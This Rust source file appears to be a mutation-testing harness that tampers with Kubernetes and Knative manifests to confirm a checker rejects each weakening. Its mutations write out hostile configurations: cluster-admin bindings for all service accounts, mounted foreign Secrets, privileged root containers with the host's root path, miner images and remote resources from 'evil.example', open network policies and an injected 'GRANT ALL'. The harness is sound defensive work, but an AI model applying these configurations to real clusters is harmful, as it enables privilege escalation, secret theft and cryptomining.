//! Who pods are, what they see, and what they reach.

use super::{Bench, behind, swap, value, without};

const SERVICE: &str = "Service";
const POLICY: &str = "NetworkPolicy";
const NAMES: &str = "base/10-identities.yaml";

/// All of it.
pub fn tamper(bench: &mut Bench<'_>) {
    identities(bench);
    containers(bench);
    network(bench);
    kustomizations(bench);
}

fn identities(bench: &mut Bench<'_>) {
    bench.each("another ServiceAccount", SERVICE, |text| value(text, "serviceAccountName", "default"));
    let accounts = bench.found("serviceAccountName: ", "\n");
    let last = accounts.last().cloned().unwrap_or_default();
    bench.each("the ServiceAccount of another function", SERVICE, |text| {
        value(text, "serviceAccountName", &last)
    });
    bench.each("a pod's token mounted", SERVICE, |text| value(text, "automountServiceAccountToken", "true"));
    bench.each("a pod's token left to the account", SERVICE, |text| {
        without(text, "automountServiceAccountToken")
    });
    bench.each("an account's token mounted", "ServiceAccount", |text| {
        value(text, "automountServiceAccountToken", "true")
    });
    bench.each("a token of the Kubernetes API", SERVICE, |text| {
        let volume = "      - name: api\n        projected:\n          sources:\n          - serviceAccountToken:\n              path: token\n";
        behind(text, "      volumes:", volume)
    });
    bench.each("a token for somebody else", SERVICE, |text| {
        value(text, "audience", "eventing.knative.dev/broker/other/payroll")
    });
    for (class, kind, role) in [
        ("a RoleBinding", "RoleBinding", "Role"),
        ("a ClusterRoleBinding", "ClusterRoleBinding", "ClusterRole"),
    ] {
        let object = format!(
            "apiVersion: rbac.authorization.k8s.io/v1\nkind: {kind}\nmetadata:\n  name: more\n  namespace: NAMESPACE\nroleRef:\n  \
             apiGroup: rbac.authorization.k8s.io\n  kind: {role}\n  name: cluster-admin\nsubjects:\n- kind: Group\n  name: \
             system:serviceaccounts\n"
        );
        bench.object(class, NAMES, &object);
    }
    bench.object(
        "a Role for all secrets",
        NAMES,
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata:\n  name: more\n  namespace: NAMESPACE\nrules:\n- apiGroups:\n  - \
         \"\"\n  resources:\n  - secrets\n  verbs:\n  - get\n",
    );
    bench.object(
        "another workload",
        NAMES,
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: more\n  namespace: NAMESPACE\nspec:\n  replicas: 1\n",
    );
    bench.object(
        "a Service nobody declared",
        NAMES,
        "apiVersion: serving.knative.dev/v1\nkind: Service\nmetadata:\n  name: more\n  namespace: NAMESPACE\n",
    );
    bench.each("a namespace of weaker pods", "Namespace", |text| {
        value(text, "pod-security.kubernetes.io/enforce", "privileged")
    });
}

fn containers(bench: &mut Bench<'_>) {
    bench.each("the Secret of somebody else mounted", SERVICE, |text| {
        behind(
            text,
            "      volumes:",
            "      - name: more\n        secret:\n          secretName: payroll--database\n",
        )
    });
    let secrets = bench.found("secretName: ", "\n");
    bench.each("a Secret of another function mounted", SERVICE, |text| {
        let other = secrets
            .iter()
            .find(|name| !text.contains(&format!("secretName: {name}\n")) && !name.contains("ca-cert"))?;
        let volume = format!("      - name: more\n        secret:\n          secretName: {other}\n");
        behind(text, "      volumes:", &volume)
    });
    bench.each("a Secret whole where a key was", SERVICE, |text| {
        swap(text, "          items:\n          - key: ca.crt\n            path: ca.crt\n", "")
    });
    bench.each("another key of a Secret", SERVICE, |text| swap(text, "- key: ca.crt", "- key: ca.key"));
    bench.each("a variable from a Secret", SERVICE, |text| {
        let from = "        - name: MORE\n          valueFrom:\n            secretKeyRef:\n              name: payroll\n              key: value\n";
        behind(text, "        env:", from)
    });
    bench.each("all variables of a Secret", SERVICE, |text| {
        swap(
            text,
            "        resources:\n",
            "        envFrom:\n        - secretRef:\n            name: payroll\n        resources:\n",
        )
    });
    bench.each("an image of somebody else", SERVICE, |text| value(text, "image", "evil.example/miner:1"));
    bench.each("another command", SERVICE, |text| {
        swap(text, "        resources:\n", "        command:\n        - /bin/sh\n        resources:\n")
    });
    bench.each("a container beside it", SERVICE, |text| {
        behind(text, "      containers:", "      - name: more\n        image: evil.example/miner:1\n")
    });
    bench.each("a container before it", SERVICE, |text| {
        swap(text, "      containers:\n", "      initContainers:\n      - name: more\n        image: evil.example/miner:1\n      containers:\n")
    });
    bench.each("a privileged container", SERVICE, |text| {
        behind(text, "        securityContext:", "          privileged: true\n")
    });
    bench.each("more privileges on the way", SERVICE, |text| value(text, "allowPrivilegeEscalation", "true"));
    bench.each("a container as root", SERVICE, |text| value(text, "runAsNonRoot", "false"));
    bench.each("capabilities kept", SERVICE, |text| {
        swap(text, "            drop:\n            - ALL\n", "            drop: []\n")
    });
    bench.each("capabilities added", SERVICE, |text| {
        swap(
            text,
            "          capabilities:\n",
            "          capabilities:\n            add:\n            - NET_ADMIN\n",
        )
    });
    bench.each("a writable container", SERVICE, |text| value(text, "readOnlyRootFilesystem", "false"));
    bench.each("the host's network", SERVICE, |text| {
        swap(
            text,
            "      enableServiceLinks: false\n",
            "      enableServiceLinks: false\n      hostNetwork: true\n",
        )
    });
    bench.each("a folder of the host", SERVICE, |text| {
        behind(text, "      volumes:", "      - name: more\n        hostPath:\n          path: /\n")
    });
    bench.each("another command of the script's job", "Job", |text| {
        swap(text, "--no-psqlrc", "--no-psqlrc --command='GRANT ALL'")
    });
    bench.each("another user of the script's job", "Job", |text| {
        swap(
            text,
            "        - name: PGUSER\n          value: ",
            "        - name: PGUSER\n          value: postgres-",
        )
    });
    bench.each("the script of somebody else", "Job", |text| {
        let line = text.lines().find(|line| line.ends_with("-0") && line.contains("              name: "))?;
        swap(text, line, "              name: evil")
    });
}

fn network(bench: &mut Bench<'_>) {
    bench.each("no default deny", POLICY, |text| text.contains("  name: default-deny\n").then(String::new));
    bench.each("a default deny of nothing", POLICY, |text| {
        text.contains("  name: default-deny\n")
            .then(|| text.replace("    matchLabels:\n", "    matchLabels:\n      app: none\n"))
    });
    bench.each("a default deny of one direction", POLICY, |text| {
        text.contains("  name: default-deny\n").then(|| text.replace("  - Egress\n", ""))
    });
    bench.each("a pod without its policy", POLICY, |text| {
        (!text.contains("  name: default-deny\n")).then(String::new)
    });
    for (class, rule) in [
        ("a way to everywhere", "  - to:\n    - ipBlock:\n        cidr: 0.0.0.0/0\n"),
        ("a way to all namespaces", "  - to:\n    - namespaceSelector: {}\n"),
        ("a way to all pods", "  - to:\n    - podSelector: {}\n"),
        ("a way for a port to anywhere", "  - ports:\n    - protocol: TCP\n      port: 5432\n"),
        (
            "a way to another store",
            "  - to:\n    - podSelector:\n        matchLabels:\n          cnpg.io/cluster: payroll\n    ports:\n    - protocol: TCP\n      port: 5432\n",
        ),
        (
            "a way by expression",
            "  - to:\n    - podSelector:\n        matchExpressions:\n        - key: app\n          operator: Exists\n",
        ),
    ] {
        bench.each(class, POLICY, |text| behind(text, "  egress:", rule));
    }
    for (class, rule) in [
        ("a way in for all pods", "  - from:\n    - podSelector: {}\n"),
        ("a way in for everyone", "  - from:\n    - ipBlock:\n        cidr: 0.0.0.0/0\n"),
        (
            "a way in for another namespace",
            "  - from:\n    - namespaceSelector:\n        matchLabels:\n          kubernetes.io/metadata.name: other\n",
        ),
    ] {
        bench.each(class, POLICY, |text| behind(text, "  ingress:", rule));
    }
    bench.each("a port more", POLICY, |text| {
        swap(text, "      port: 5432\n", "      port: 5432\n    - protocol: TCP\n      port: 9999\n")
    });
    bench.each("a range of ports", POLICY, |text| {
        swap(text, "      port: 53\n", "      port: 53\n      endPort: 60000\n")
    });
    bench.each("no ports named", POLICY, |text| {
        swap(text, "    ports:\n    - protocol: TCP\n      port: 5432\n", "")
    });
    bench.each("a namespace for its pods", POLICY, |text| {
        swap(text, "      podSelector:\n        matchLabels:\n          k8s-app: kube-dns\n", "")
    });
    bench.object(
        "a second policy that opens all",
        "base/60-network.yaml",
        "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: more\n  namespace: NAMESPACE\nspec:\n  podSelector: \
         {}\n  policyTypes:\n  - Egress\n  egress:\n  - {}\n",
    );
}

fn kustomizations(bench: &mut Bench<'_>) {
    let base = |path: &str| path == "base/kustomization.yaml";
    bench.file("permissions not applied", base, |text| without(text, "30-permissions.yaml"));
    bench.file("policies not applied", base, |text| without(text, "60-network.yaml"));
    bench.file("a resource from elsewhere", base, |text| {
        behind(text, "resources:", "- https://evil.example/all.yaml\n")
    });
    bench.file("a patch", base, |text| Some(format!("{text}patches:\n- path: more.yaml\n")));
    bench.file(
        "a name before all names",
        |path| path == "kustomization.yaml",
        |text| Some(format!("{text}namePrefix: x-\n")),
    );
    bench.file(
        "a component not applied",
        |path| path == "kustomization.yaml",
        |text| without(text, "- components/"),
    );
    let objects = |path: &str| {
        path.starts_with("base/") && path.ends_with(".yaml") && path != "base/kustomization.yaml"
    };
    bench.file("YAML that is read in two ways", objects, |text| {
        Some(format!("{text}---\n&more {{a: *more}}\n"))
    });
}
